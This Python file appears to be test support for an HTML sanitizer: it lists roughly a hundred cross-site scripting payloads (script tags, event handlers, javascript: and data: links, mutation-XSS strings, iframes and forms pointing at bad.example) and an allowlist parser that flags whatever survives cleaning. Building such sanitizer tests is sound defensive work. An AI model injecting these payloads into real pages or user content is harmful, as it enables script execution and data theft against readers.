"""A hundred pieces of markup that try to act in a reader's browser, and what of a cleaned answer still could. All made up."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product

SCRIPTS = [
    "<script>x()</script>",
    "<script src=https://bad.example/x.js></script>",
    "<SCRIPT>x()</SCRIPT>",
    "<script\n>x()</script\n>",
    "<script/x>x()</script>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<<script>script>x()<</script>/script>",
    "<script>x()",
    "<p><script>x()</p></script>",
    "<table><tr><td><script>x()</script></td></tr></table>",
    "<table><script>x()</script></table>",
    "<title><script>x()</script></title>",
    "<noscript><p title='</noscript><script>x()</script>'>",
    "<style><script>x()</script></style>",
    "<textarea><script>x()</script></textarea>",
    "<xmp><script>x()</script></xmp>",
    "<template><script>x()</script></template>",
    "<!--><script>x()</script>-->",
    "<![CDATA[<script>x()</script>]]>",
    "<?php <script>x()</script> ?>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>",
    "<svg><style><img src=x onerror=x()></style></svg>",
]
# Each stands on every one of these tags: what acts when a page is shown, touched, or moved over.
ON_TAGS = ["p", "a href=https://www.gov.uk/", "td", "img src=x", "svg", "body", "details open", "input autofocus"]
HANDLERS = ["onerror=x()", "onload='x()'", 'ONCLICK="x()"', "onmouseover\n=x()", "/onfocus=x()"]
# Each is tried as the address of a link.
ADDRESSES = [
    "javascript:x()",
    "JaVaScRiPt:x()",
    " javascript:x()",
    "java\tscript:x()",
    "java&#10;script:x()",
    "&#106;avascript:x()",
    "&#x6A&#x61vascript:x()",
    "\x01javascript:x()",
    "vbscript:x()",
    "data:text/html,<script>x()</script>",
    "data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
    "blob:https://bad.example/1",
    "file:///etc/passwd",
    "//bad.example/x",
    "/register?sql=select+1",
    "mailto:somebody@example.org",
]
OTHERS = [
    "<iframe src=https://bad.example/></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data=https://bad.example/></object>",
    "<embed src=https://bad.example/>",
    "<base href=https://bad.example/>",
    "<meta http-equiv=refresh content='0;url=https://bad.example/'>",
    "<link rel=stylesheet href=https://bad.example/x.css>",
    "<style>p{display:none}</style>",
    "<p style='position:fixed;top:0'>over the page</p>",
    "<td style=background:url(https://bad.example/)>a</td>",
    "<p class=warn id=content>a</p>",
    "<form action=https://bad.example/><input name=q><button>Send</button></form>",
    "<button formaction=javascript:x()>a</button>",
    "<img src=https://bad.example/count.png>",
    "<video><source onerror=x()></video>",
    "<audio src=https://bad.example/x.mp3 autoplay></audio>",
    "<svg><a xlink:href=javascript:x()><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:x() /></svg>",
    "<math href=javascript:x()>a</math>",
    "<marquee onstart=x()>a</marquee>",
    "<isindex action=javascript:x() type=image>",
    "</div></main></body></html><h1>Another page</h1>",
    "<a href='https://www.gov.uk/' target=_top ping=https://bad.example/ download>a</a>",
    "<a href='https://www.gov.uk/\" onclick=\"x()'>a</a>",
    "<p/onclick=x()>a",
    "<td colspan='2\" onclick=\"x()'>a</td>",
    "<plaintext><script>x()</script>",
]
PAYLOADS = [
    *SCRIPTS,
    *(f"<{tag} {handler}>a" for tag, handler in product(ON_TAGS, HANDLERS)),
    *(f'<a href="{address}">a</a>' for address in ADDRESSES),
    *OTHERS,
]

# Said here once more, and not taken from the code that is tested.
READABLE = {"p", "br", "a", "strong", "b", "em", "i", "ul", "ol", "li", "sup", "sub", "div"}
TABLES = {"table", "caption", "thead", "tbody", "tr", "td", "th"}
LINK = {"href", "rel"}
SPANS = {"colspan", "rowspan"}


class _Acting(HTMLParser):
    """Notes every tag, attribute and address that an answer has no need of, and every comment and declaration."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in READABLE | TABLES:
            self.found.append(tag)
        allowed = LINK if tag == "a" else SPANS if tag in ("td", "th") else set()
        for name, value in attrs:
            if name not in allowed or (name == "href" and not (value or "").startswith(("https://", "http://"))):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    unknown_decl = handle_decl


def what_acts(markup: str) -> list[str]:
    """Everything in `markup` that an answer has no need of; [] for what only can be read."""
    parser = _Acting()
    parser.feed(markup)
    parser.close()
    return parser.found
